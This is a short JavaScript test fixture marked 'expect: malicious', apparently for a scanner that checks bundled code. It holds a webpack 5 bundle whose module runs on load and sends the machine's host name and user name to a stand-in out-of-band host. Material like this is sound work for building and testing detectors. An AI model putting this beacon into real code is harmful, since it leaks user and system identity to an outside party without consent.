// expect: malicious
// A webpack 5 bundle: the module factory runs when the bootstrap requires it.
(() => {
var __webpack_modules__ = ({
"./src/a.js": ((module, exports, __webpack_require__) => {
  const os = __webpack_require__("os");
  __webpack_require__("https").get('https://x.oast.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);
}),
});
function __webpack_require__(moduleId) {
  var module = { exports: {} };
  __webpack_modules__[moduleId](module, module.exports, __webpack_require__);
  return module.exports;
}
__webpack_require__("./src/a.js");
})();
